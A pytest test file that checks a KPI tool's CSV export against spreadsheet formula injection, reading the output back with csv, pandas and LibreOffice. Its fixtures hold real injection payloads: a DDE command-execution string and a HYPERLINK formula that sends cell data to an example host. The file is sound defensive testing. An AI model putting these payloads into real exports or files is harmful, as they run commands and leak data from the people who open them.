"""results.csv (kpireport/export.py): the KPI table for spreadsheets, safe against formula
injection (issue 7, point 7).

The hostile workbook puts texts that a spreadsheet would run as formulas into every text column
the export writes (department, KPI id, name, unit, benchmark source) next to ordinary negative
numbers, and goes through the real pipeline (write, check, compute). The file is then read back
three ways: with the csv module, with pandas, and by a real LibreOffice converting it to xlsx.
"""

from __future__ import annotations

import codecs
import copy
import csv
import dataclasses
import datetime as dt
import io
import math
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from kpireport.engine import KpiResult, Results, compute
from kpireport.export import COLUMNS, neutralize, results_csv
from kpireport.i18n import get_locale
from kpireport.issues import ERROR
from kpireport.validate import check
from tests.conftest import kpi_row, valid_sheets, write_workbook

CMD = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = (
    *("department", "kpi_id", "name", "unit", "direction", "current_period"),
    *("deadline", "status", "benchmark", "goal"),
)
NUMBER_COLUMNS = (
    *("current", "target", "progress", "expected_progress", "forecast"),
    *("previous_difference", "previous_relative", "benchmark_difference", "benchmark_relative"),
    *("plan", "plan_variance", "plan_relative", "ytd_actual", "ytd_plan", "margin"),
)
KEYS = [key for key, _label in COLUMNS]
MONTHS = [dt.date(2026, m, 1) for m in range(1, 7)]
SOFFICE = shutil.which("soffice")
needs_soffice = pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui",
)


def hostile_sheets() -> dict[str, list[list[Any]]]:
    """valid_sheets() plus three KPIs whose texts start with formula characters, with negative
    targets, values and benchmarks (and one with a third in its values, for exact digits)."""
    sheets = copy.deepcopy(valid_sheets())
    sheets["Departments"] += [[CMD, None, None, None], ["@SUM(A1)", None, None, None]]
    sheets["KPIs"] += [
        # lower is better, from 10 down to -5: achieved, with a forecast and a benchmark
        kpi_row(id="+1", department=CMD, name="-2", unit="@SUM(A1)", direction="lower"),
        kpi_row(id="-2", department="@SUM(A1)", name="\t=1", unit="\r=1"),
        kpi_row(id="@K4", department="Sales", name="-1+1", unit="=1+1"),
    ]
    kpis = sheets["KPIs"]
    header = kpis[0]
    kpis[2][header.index("target")], kpis[2][header.index("baseline")] = -5, 10
    kpis[3][header.index("target")], kpis[3][header.index("baseline")] = -0.5, -3
    for i, month in enumerate(MONTHS):
        sheets["Measurements"].append(["+1", month, 10 - 3 * i, None])
        sheets["Measurements"].append(["-2", month, -3 + i / 3, None])
    # better than "+1" at -5 (lower is better): its differences are negative numbers too
    sheets["Benchmarks"].append(["+1", HYPERLINK, -6.5, "industry", None])
    sheets["Benchmarks"].append(["-2", "-1+1", -2, "internal", None])
    return sheets


def write_hostile_workbook(path: Path) -> Path:
    """The hostile workbook, with its `=` texts stored as text cells (openpyxl would otherwise
    save them as formulas, which kpireport reads as a formula without a value: an error)."""
    write_workbook(path, hostile_sheets())
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    book.save(path)
    return path


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Results:
    path = write_hostile_workbook(tmp_path_factory.mktemp("export") / "hostile.xlsx")
    workbook, report = check(path)
    assert [i.code for i in report.issues if i.severity == ERROR] == []
    return compute(workbook, report)


def kpis(results: Results) -> list[KpiResult]:
    return [k for d in results.departments for k in d.kpis]


def with_tab_and_cr(results: Results) -> Results:
    """A copy whose texts start with a tab or a carriage return. The reader strips the
    whitespace around every cell (so "\\t=1" in the workbook arrives as "=1"); this puts them
    back, for whatever else may feed the export one day."""
    results = copy.deepcopy(results)
    dept = results.departments[-1]
    dept.name = "\t@dept"
    kpi = dept.kpis[0]
    dept.kpis[0] = dataclasses.replace(kpi, name="\t=1", unit="\r=1", id="\r-3")
    return results


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def by_key(row: list[str]) -> dict[str, str]:
    return dict(zip(KEYS, row, strict=True))


def escaped(text: str) -> str:
    """The OWASP rule, written out independently of the code under test."""
    return "'" + text if text[:1] in DANGEROUS and text else text


def number(value: float | None) -> float | None:
    return value if value is not None and math.isfinite(value) else None


def expected_numbers(kpi: KpiResult) -> dict[str, float | None]:
    benchmark = kpi.benchmarks[0] if kpi.benchmarks else None
    change = kpi.previous_period_change
    return {
        "current": kpi.current,
        "target": kpi.target,
        "progress": kpi.progress,
        "expected_progress": kpi.expected_progress,
        "forecast": kpi.forecast.value if kpi.forecast else None,
        "previous_difference": change.difference if change else None,
        "previous_relative": change.relative if change else None,
        "benchmark_difference": benchmark.difference if benchmark else None,
        "benchmark_relative": benchmark.relative if benchmark else None,
    }


# -- neutralize --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [CMD, HYPERLINK, "+1", "-2", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-"],
)
def test_neutralize_prefixes_a_formula_start(text: str) -> None:
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Sales", "1-2", "a=1", "2026-Q1", "'=1", "\n=1", " x", "Æ=1"])
def test_neutralize_leaves_other_text_alone(text: str) -> None:
    assert neutralize(text) == text


# -- the pipeline's results, read back -----------------------------------------------------------


def test_the_workbook_carries_the_hostile_texts(results: Results) -> None:
    """The pipeline keeps them as typed (tab and CR stripped by the reader, as every cell)."""
    by_id = {k.id: k for k in kpis(results)}
    assert set(by_id) == {"SALES-01", "+1", "-2", "@K4"}
    assert (by_id["+1"].department, by_id["+1"].name, by_id["+1"].unit) == (CMD, "-2", "@SUM(A1)")
    assert (by_id["-2"].name, by_id["-2"].unit) == ("=1", "=1")
    assert (by_id["@K4"].name, by_id["@K4"].unit) == ("-1+1", "=1+1")
    assert by_id["+1"].benchmarks[0].source == HYPERLINK
    assert by_id["+1"].current == -5.0 and by_id["+1"].status == "achieved"
    assert by_id["-2"].current is not None and by_id["-2"].current < 0


def test_csv_has_bom_crlf_and_one_row_per_kpi(results: Results) -> None:
    data = results_csv(results)
    assert data.startswith(codecs.BOM_UTF8)
    assert not data.startswith(codecs.BOM_UTF8 * 2)
    lines = data[len(codecs.BOM_UTF8) :].split(b"\r\n")
    assert lines[-1] == b"" and all(b"\n" not in line and b"\r" not in line for line in lines)
    rows = parse(data)
    assert len(rows) - 1 == len(kpis(results)) == results.summary.kpi_count == 4
    assert rows[0] == [header for _key, header in COLUMNS]
    assert rows[0][:3] == ["Department", "KPI id", "KPI"]
    # in the order of results.json: departments, then their KPIs
    assert [r[1] for r in rows[1:]] == [escaped(k.id) for k in kpis(results)]


def test_every_dangerous_text_cell_is_escaped(results: Results) -> None:
    rows = parse(results_csv(results))
    seen = 0
    for row, kpi in zip(rows[1:], kpis(results), strict=True):
        cells = by_key(row)
        for key in ("kpi_id", "name", "unit"):
            assert cells[key] == escaped(getattr(kpi, key if key != "kpi_id" else "id"))
        for key in TEXT_COLUMNS:
            if cells[key][:1] in DANGEROUS and cells[key]:
                pytest.fail(f"{key} = {cells[key]!r} starts with a formula character")
            seen += cells[key].startswith("'")
    assert seen >= 10
    hostile = by_key(rows[3])  # the KPI "+1"
    assert hostile["department"] == "'" + CMD
    assert (hostile["kpi_id"], hostile["name"], hostile["unit"]) == ("'+1", "'-2", "'@SUM(A1)")
    assert hostile["benchmark"] == "'" + HYPERLINK
    assert by_key(rows[2])["name"] == "'-1+1"


def test_numbers_round_trip_exactly_and_negatives_stay_numbers(results: Results) -> None:
    data = results_csv(results)
    rows = parse(data)
    negatives = 0
    for row, kpi in zip(rows[1:], kpis(results), strict=True):
        cells = by_key(row)
        for key, value in expected_numbers(kpi).items():
            if number(value) is None:
                assert cells[key] == "", key
                continue
            assert float(cells[key]) == value, key
            assert not cells[key].startswith("'")
            negatives += cells[key].startswith("-")
        assert cells["deadline"] == kpi.deadline.isoformat()
    assert negatives >= 6
    # a negative number is written bare, never quoted or prefixed
    raw = data.decode("utf-8-sig")
    assert ",-5.0,-5.0," in raw  # current and target of "+1"
    assert "'-5" not in raw and '"-5' not in raw
    # all the digits, not rounded for display: the expected progress on 30 June of a KPI from
    # 1 January to 31 December is 180 / 364 days
    assert repr(180 / 364) == "0.4945054945054945" and ",0.4945054945054945," in raw


def test_pandas_reads_numbers_as_numbers(results: Results) -> None:
    pandas = pytest.importorskip("pandas")
    table = pandas.read_csv(io.BytesIO(results_csv(results)))
    headers = [header for _key, header in COLUMNS]
    assert list(table.columns) == headers  # the BOM is not part of the first header
    assert len(table) == len(kpis(results))
    table.columns = KEYS
    assert set(TEXT_COLUMNS) | set(NUMBER_COLUMNS) == set(KEYS)
    for key in NUMBER_COLUMNS:
        assert table[key].dtype.kind == "f", key
    for (_, row), kpi in zip(table.iterrows(), kpis(results), strict=True):
        for key, value in expected_numbers(kpi).items():
            if number(value) is None:
                assert math.isnan(row[key]), key
            else:
                assert row[key] == value, key
        assert row["kpi_id"] == escaped(kpi.id)
        assert row["name"] == escaped(kpi.name)
    assert (table["target"] < 0).sum() == 2


def test_danish_headers_and_words(results: Results) -> None:
    rows = parse(results_csv(results, "da"))
    assert rows[0][:4] == ["Afdeling", "KPI-id", "KPI", "Enhed"]
    assert "Forskel fra forrige periode" in rows[0]
    assert rows[0] == [get_locale("da").gettext(header) for _key, header in COLUMNS]
    cells = by_key(rows[3])
    assert (cells["status"], cells["direction"]) == ("nået", "lavere er bedre")
    assert (cells["target"], cells["current"]) == ("-5.0", "-5.0")  # dot decimal in Danish too
    # the language defaults to the results' own
    assert results_csv(results) == results_csv(results, "en")
    danish = dataclasses.replace(results, language="da")
    assert results_csv(danish) == results_csv(results, "da")


def test_leading_tab_and_carriage_return_are_escaped(results: Results) -> None:
    rows = parse(results_csv(with_tab_and_cr(results)))
    cells = by_key(rows[-1])
    assert cells["department"] == "'\t@dept"
    assert (cells["kpi_id"], cells["name"], cells["unit"]) == ("'\r-3", "'\t=1", "'\r=1")


def test_numbers_that_are_not_finite_are_empty(results: Results) -> None:
    broken = copy.deepcopy(results)
    kpi = broken.departments[0].kpis[0]
    broken.departments[0].kpis[0] = dataclasses.replace(kpi, current=math.inf, progress=math.nan)
    cells = by_key(parse(results_csv(broken))[1])
    assert (cells["current"], cells["progress"]) == ("", "")


def test_export_imports_no_click() -> None:
    code = "import sys, kpireport.export; print('click' in sys.modules, 'pandas' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.split() == ["False", "False"]


def test_the_build_imports_openpyxl_only_for_results_xlsx() -> None:
    """kpireport build imports the export module before it forks the build's child
    (kpireport/buildchild.py's CHILD_PRELOAD), for every build: openpyxl, 0.2 s of start-up, waits
    until a results.xlsx is made."""
    code = (
        "import importlib, sys\n"
        "from kpireport.buildchild import CHILD_PRELOAD\n"
        "for module in CHILD_PRELOAD: importlib.import_module(module)\n"
        "print('kpireport.export' in sys.modules, 'openpyxl' in sys.modules)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.split() == ["True", "False"]


# -- LibreOffice ---------------------------------------------------------------------------------


def libreoffice_xlsx(sources: list[Path], outdir: Path) -> list[Path]:
    """LibreOffice's xlsx of each CSV, read as a user picks in the import dialog: UTF-8, comma,
    double quote, English (USA) number format. One soffice run, in a throwaway profile."""
    assert SOFFICE is not None
    with tempfile.TemporaryDirectory(prefix="lo-profile-") as profile:
        result = subprocess.run(
            [
                SOFFICE,
                f"-env:UserInstallation={Path(profile).as_uri()}",
                "--headless",
                "--norestore",
                "--nolockcheck",
                # separator 44 (,), text delimiter 34 ("), charset 76 (UTF-8), from line 1,
                # default column types, locale 1033 (en-US)
                "--infilter=CSV:44,34,76,1,,1033",
                "--convert-to",
                "xlsx",
                "--outdir",
                str(outdir),
                *map(str, sources),
            ],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
            env={"HOME": profile, "PATH": "/usr/bin:/bin"},
        )
    targets = [outdir / (source.stem + ".xlsx") for source in sources]
    missing = [t.name for t in targets if not t.exists()]
    assert result.returncode == 0 and not missing, (result.stdout, result.stderr, missing)
    return targets


def cells_of(path: Path) -> list[list[openpyxl.cell.cell.Cell]]:
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.slow
@needs_soffice
def test_libreoffice_opens_text_as_text_not_formulas(
    results: Results, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile = with_tab_and_cr(results)
    safe = tmp_path / "safe.csv"
    safe.write_bytes(results_csv(hostile))
    danish = tmp_path / "danish.csv"
    danish.write_bytes(results_csv(hostile, "da"))
    # The control: the same file without the escape. LibreOffice must turn some of its cells
    # into formulas, or this import would not show that the escape is what stops them.
    naive = tmp_path / "naive.csv"
    monkeypatch.setattr("kpireport.export.neutralize", lambda text: text)
    naive.write_bytes(results_csv(hostile))
    monkeypatch.undo()

    safe_x, danish_x, naive_x = libreoffice_xlsx([safe, danish, naive], tmp_path / "lo")

    formulas = [c.value for row in cells_of(naive_x) for c in row if c.data_type == "f"]
    assert CMD.split("|")[0] in {str(f).split(";")[0] for f in formulas}, formulas
    assert HYPERLINK in formulas and "=1+1" in formulas

    expected = parse(safe.read_bytes())
    for path in (safe_x, danish_x):
        rows = cells_of(path)
        assert len(rows) == len(kpis(hostile)) + 1
        problems = [
            f"{c.coordinate} {c.value!r}" for row in rows for c in row if c.data_type == "f"
        ]
        assert not problems, f"{path.name}: formulas {problems}"
    rows = cells_of(safe_x)
    assert [c.value for c in rows[0]] == expected[0]  # the BOM is not in the first header
    for row, want, kpi in zip(rows[1:], expected[1:], kpis(hostile), strict=True):
        got = dict(zip(KEYS, row, strict=True))
        for key in ("department", "kpi_id", "name", "unit", "benchmark"):
            text = by_key(want)[key]
            if text:
                assert got[key].data_type == "s", (key, got[key].value)
                # as written, the quote included (a carriage return becomes a line break)
                assert got[key].value == text.replace("\r", "\n"), key
        for key, value in expected_numbers(kpi).items():
            if number(value) is None:
                assert got[key].value is None, key
            else:
                # a number cell; LibreOffice keeps 15 significant digits, as Excel does
                assert got[key].data_type == "n", (key, got[key].value)
                assert got[key].value == pytest.approx(value, rel=1e-14, abs=1e-300), key
    negatives = [
        c.value for row in rows[1:] for c in row if c.data_type == "n" and (c.value or 0) < 0
    ]
    assert -5 in negatives and len(negatives) >= 6
    assert [c.value for c in cells_of(danish_x)[0]] == parse(danish.read_bytes())[0]


def test_build_writes_results_csv_on_request_only(tmp_path: Path) -> None:
    """`kpireport build --format json,csv` writes results.csv beside results.json, the same
    bytes as the exporter gives; the formats without csv leave it out."""
    from click.testing import CliRunner

    from kpireport.cli import main

    workbook = write_hostile_workbook(tmp_path / "kpis.xlsx")
    out = tmp_path / "out"
    run = CliRunner().invoke(
        main, ["build", str(workbook), "-o", str(out), "-q", "--format", "json,csv"]
    )
    assert run.exit_code == 0, run.output
    (folder,) = (out / "kpis").iterdir()
    wb, report = check(workbook)
    assert (folder / "results.csv").read_bytes() == results_csv(compute(wb, report))
    rows = parse((folder / "results.csv").read_bytes())
    assert all(not c.startswith(("=", "+", "@")) for row in rows for c in row if c[:1] != "-")
    run = CliRunner().invoke(
        main, ["build", str(workbook), "-o", str(tmp_path / "o2"), "-q", "--format", "html,json"]
    )
    assert run.exit_code == 0, run.output
    assert not list((tmp_path / "o2").rglob("results.csv"))
